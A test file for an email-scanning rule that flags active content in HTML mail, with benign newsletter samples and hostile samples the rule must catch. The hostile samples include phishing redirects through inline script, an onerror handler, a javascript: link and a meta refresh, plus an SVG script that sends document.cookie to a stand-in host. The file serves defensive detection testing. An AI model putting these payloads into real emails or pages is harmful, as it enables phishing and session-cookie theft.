import { eml, ruleTester } from '../../testing.js';
import rule from './active-content.js';

const mail = (html: string) => eml({ from: 'Shop <news@shop.example>', subject: 'News', html });

ruleTester(rule, {
  valid: [
    {
      name: 'plain text mail',
      email: eml({ from: 'a <a@example.jp>', subject: 'x', text: '<script>is text</script>' }),
    },
    {
      name: 'an ordinary newsletter with links and images',
      email: mail(
        '<table><tr><td><a href="https://shop.example/sale">Sale</a><img src="https://shop.example/l.png" alt="Shop"></td></tr></table>',
      ),
    },
    {
      name: 'an old newsletter with an ad iframe and a library loaded by src',
      email: mail(
        '<p>Top stories</p><iframe src="https://ads.example/banner"></iframe><script src="https://cdn.example/lib.js"></script>',
      ),
    },
    {
      name: 'an attribute that only starts with "on"',
      email: mail('<p oneworld="yes" one="1">Hello</p>'),
    },
  ],
  invalid: [
    {
      name: 'a script written into the mail',
      email: mail(
        '<p>Your account</p><script>window.location = atob("aHR0cHM6Ly9leGFtcGxlLnRvcA==")</script>',
      ),
      evidence: '<script>',
    },
    {
      name: 'an event handler on an image',
      email: mail('<img src="x" onerror="document.location=\'https://login.example.top/\'">'),
      evidence: 'onerror=',
    },
    {
      name: 'a javascript: link',
      email: mail('<a href="javascript:void(location.href=\'https://login.example.top\')">Sign in</a>'),
      evidence: 'javascript:',
    },
    {
      name: 'a meta refresh to another site',
      email: mail('<meta http-equiv="refresh" content="0;url=https://login.example.top/"><p>Loading…</p>'),
      evidence: 'refresh',
    },
    {
      name: 'an embedded object, even beside an iframe',
      email: mail(
        '<iframe src="https://x.example/"></iframe><object data="https://x.example/a.svg" type="image/svg+xml"></object>',
      ),
      evidence: '<object>',
    },
    {
      name: 'an SVG with a script inside',
      email: mail(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://x.example.top/"+document.cookie)</script></svg>',
      ),
      evidence: '<script>',
    },
  ],
});
